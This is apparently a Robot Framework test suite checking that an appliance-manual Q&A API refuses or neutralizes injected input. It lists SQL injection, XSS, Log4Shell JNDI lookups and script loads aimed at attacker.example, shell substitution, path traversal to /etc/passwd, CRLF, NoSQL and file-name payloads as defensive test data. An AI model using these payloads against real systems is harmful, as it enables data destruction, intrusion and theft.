*** Settings ***
Documentation    Attacks hidden in text: refused or neutralized, as the environment is configured, and never executed.
...
...              Either way, ordinary sentences do not count as attacks. OWASP WSTG-INPV, ASVS 1.2.

Resource         ../../resources/aws.resource
Resource         ../../resources/manual_site.resource

Test Setup       Sign In

Test Tags        security    api-call    asvs-1.2


*** Test Cases ***
SQL In A Question Has No Effect
    [Tags]    smoke    cwe-89    needs:cost
    [Template]    Attack Should Have No Effect
    '; DROP TABLE users; --
    1' OR '1'='1
    x' UNION SELECT password FROM users --
    admin'--
    1; DELETE FROM manuals WHERE 1=1
    ' OR 1=1#
    '; EXEC xp_cmdshell('dir'); --
    1 AND pg_sleep(10)
    UPDATE users SET role='admin'

Disguised SQL Has No Effect
    [Documentation]    Letter case, comments, tabs and line breaks make no difference to a database.
    [Tags]    cwe-89    needs:cost
    [Template]    Attack Should Have No Effect
    '; dRoP tAbLe users; --
    x' union all select password from users --
    1;\nDELETE FROM manuals WHERE id=1
    1 UNION\tSELECT\tpassword\nFROM users
    1 INSERT\nINTO\tusers VALUES (1)

Attack At The End Of A Long Question Has No Effect
    [Tags]    cwe-89    cwe-79    needs:cost
    ${long} =    Text Of Length    ${question_length - 50}    of=How do I clean it?${SPACE}
    FOR    ${attack}    IN    '; DROP TABLE users; --    <script>alert(1)</script>
        Attack Should Have No Effect    ${long}${attack}
    END

Spoken Attack Has No Effect
    [Documentation]    What was said is as little trusted as what was typed.
    [Tags]    cwe-79    needs:cost    needs:aws-inspection
    FOR    ${attack}    IN    <script>alert(1)</script>    '; DROP TABLE users; --
        Script Transcript    *    ${attack}
        IF    $injection_policy == "reject"
            Ask By Voice    how-do-i-descale-it.wav    status=400
            Error Should Be    400    malicious_input    mentions=file_data
        ELSE
            ${answer} =    Ask By Voice    how-do-i-descale-it.wav
            Should Not Match Regexp    ${answer.question}    <\\s*[a-zA-Z/]
        END
    END
    Remove Scripts
    Ask By Voice    how-do-i-descale-it.wav

Script In A Question Has No Effect
    [Tags]    cwe-79    needs:cost
    [Template]    Attack Should Have No Effect
    <script>alert(1)</script>
    "><img src=x onerror=alert(1)>
    <svg onload=alert(1)>
    <iframe src="https://attacker.example"></iframe>
    <a href="javascript:alert(1)">manual</a>
    <body onpageshow=alert(1)>
    <ScRiPt src=//attacker.example/x.js></sCrIpT>

Refused Attack Is Not Counted
    [Tags]    cwe-89    needs:cost
    Skip If    $injection_policy != "reject"    this environment neutralizes attacks instead of refusing them
    Remember Usage
    Ask    '; DROP TABLE users; --    status=400
    Daily Usage Should Have Grown By    0
    Ask    How do I descale it?
    Daily Usage Should Have Grown By    1

Code For Other Interpreters Stays Text
    [Documentation]    Templates, shells, LDAP, logging and format strings are tried: the text comes back as it was
    ...    sent, and nothing else happens.
    [Tags]    cwe-78    cwe-94    cwe-1336    needs:cost
    [Template]    Text Should Stay Text
    {{7*7}} and \${7*7} and <%= 7*7 %> and #{7*7}
    $(sleep 5) `sleep 5` | sleep 5 & sleep 5
    \${jndi:ldap://attacker.example/a}
    *)(uid=*))(|(uid=*
    %s%s%s%n %x
    ../../../../etc/passwd
    {"$gt": ""}
    __import__('time').sleep(5)

Line Break In A Question Adds No Header
    [Documentation]    It is sent raw and percent-encoded (CWE-93, CWE-113).
    [Tags]    cwe-93    cwe-113    needs:cost
    FOR    ${question}    IN    How?\r\nX-Injected: a\=b    How?%0d%0aX-Injected:%20a\=b
        ${answer} =    Ask    ${question}
        Should Be Equal    ${answer.question}    ${question}
        Should Not Be Empty    ${answer.answer}
        Response Should Have No Header    X-Injected
    END

Attack In A File Name Is Not Stored
    [Documentation]    A manual is never listed under a name that contains markup or SQL.
    [Tags]    cwe-79    cwe-89    needs:destructive
    ${manual} =    Upload Manual    thermostat.pdf
    FOR    ${name}    IN    <script>alert(1)</script>.pdf    <img src=x onerror=alert(1)>.pdf
        Upload Manual    thermostat.pdf    file_name=${name}    status=400
    END
    IF    $injection_policy == "reject"
        Upload Manual    thermostat.pdf    file_name='; DROP TABLE manuals; --.pdf    status=400
        Error Should Be    400    malicious_input    mentions=file_name
    END
    Listed Manual Should Be    ${manual}    name=thermostat.pdf
    ${manuals} =    List All Manuals
    FOR    ${listed_manual}    IN    @{manuals}
        Should Not Match Regexp    ${listed_manual.name}    <\\w|DROP TABLE
    END

Attack In The Name Of A Fetched Manual Is Refused
    [Tags]    cwe-89    needs:destructive
    Skip If    $injection_policy != "reject"    this environment neutralizes attacks instead of refusing them
    Require A Manual Site
    Fetch Manual From URL    ${manual_site_url}/thermostat.pdf    file_name=drop it on the table.pdf
    Fetch Manual From URL    ${manual_site_url}/thermostat.pdf    file_name='; DROP TABLE manuals; --.pdf    status=400
    Error Should Be    400    malicious_input    mentions=filename

Attack In The Address Of A Fetched Manual Is Not Its Name
    [Documentation]    Without a name of its own, a manual may be named after the end of its address.
    [Tags]    cwe-79    cwe-89    needs:destructive
    Require A Manual Site
    ${manual} =    Fetch Manual From URL    ${manual_site_url}/thermostat.pdf
    FOR    ${name}    IN    <img src=x onerror=alert(1)>.pdf    '; DROP TABLE manuals; --.pdf
        ${encoded} =    Percent Encode    ${name}
        VAR    &{body} =    url=${manual_site_url}/any-name/${encoded}
        Send Request    POST    /api/manuals/download    json=${body}
    END
    Listed Manual Should Be    ${manual}    name=thermostat.pdf
    ${manuals} =    List All Manuals
    FOR    ${listed_manual}    IN    @{manuals}
        Should Not Match Regexp    ${listed_manual.name}    <\\w|DROP TABLE
    END

Attack In An Id Finds Nothing
    [Tags]    cwe-89    cwe-943    needs:destructive
    ${manual} =    Upload Manual    thermostat.pdf
    Get Manual    ${manual}
    FOR    ${id}    IN    ' OR '1'='1    1 OR 1=1    ${manual.manual_id}' --    {"$ne":null}    %    *
        Get Manual    ${id}    status=404
        Delete Manual    ${id}    status=404
    END
    Get Manual    ${manual}

Attack In A Parameter Is Refused
    [Tags]    cwe-89    cwe-943
    List Manuals    limit=1
    FOR    ${value}    IN    1 OR 1=1    1; DROP TABLE manuals    {"$gt": 0}    1' --    1\r\nX: y
        VAR    &{params} =    limit=${value}
        Send Request    GET    /api/manuals    params=${params}
        Error Should Be    400    validation_error    mentions=limit
    END

Text That Provokes Backtracking Is Answered Quickly
    [Documentation]    No filter may take exponential time (CWE-1333).
    [Tags]    cwe-1333    needs:cost    needs:load
    [Template]    Repeated Text Should Be Answered Quickly
    or${SPACE}
    '
    <a${SPACE}
    <img${SPACE}
    select a,${SPACE}
    insert into a (
    javascript${SPACE}

Ordinary Questions Are Not Mistaken For Attacks
    [Documentation]    Update, set, insert, drop, select, delete, table and script occur in questions about appliances,
    ...    and so do signs and links.
    [Tags]    needs:cost
    [Template]    Question Should Be Answered
    How do I update the firmware and set the clock?
    insert the battery into the remote
    drop it on the table
    select all from the menu
    Can I delete a programme from the list where it stands, create another one and execute that?
    Is it 5 °C < t <= 60 °C, or t > 60 at 50 % & more?
    The script on its label says {5} on = "1": is https://example.com/faq.html right about that?
    What does "ERROR #8" mean; and -- more important -- who repairs it?
    Does 1 or 2 = the same union of hoses? Select one.


*** Keywords ***
Attack Should Have No Effect
    [Documentation]    The attack is refused, or answered without its markup; then the same user is served as before.
    [Arguments]    ${attack: str}
    IF    $injection_policy == "reject"
        Ask    ${attack}    status=400
        Error Should Be    400    malicious_input    mentions=question
    ELSE
        ${answer} =    Ask    ${attack}
        Should Not Match Regexp    ${answer.question}    <\\s*[a-zA-Z/]
    END
    Ask    How do I descale it?

Text Should Stay Text
    [Documentation]    The text is answered like any other question, without a delay and without being evaluated.
    [Arguments]    ${text: str}
    ${answer} =    Ask    ${text}
    Should Be Equal    ${answer.question}    ${text}
    Should Not Contain    ${answer.answer}    49
    Response Time Should Be    less_than=4 s

Repeated Text Should Be Answered Quickly
    [Documentation]    Ask the longest question made of this text, with an end that does not match.
    [Arguments]    ${part: str}
    ${text} =    Text Of Length    ${question_length - 1}    of=${part}
    VAR    &{question} =    question=${text}!
    Send Request    POST    /api/query    json=${question}
    Response Time Should Be    less_than=5 s
    Response Should Match The Contract
    Ask    How do I descale it?

Question Should Be Answered
    [Documentation]    The question is answered, and comes back as it was asked.
    [Arguments]    ${question: str}
    ${answer} =    Ask    ${question}
    Should Be Equal    ${answer.question}    ${question}
    Should Not Be Empty    ${answer.answer}
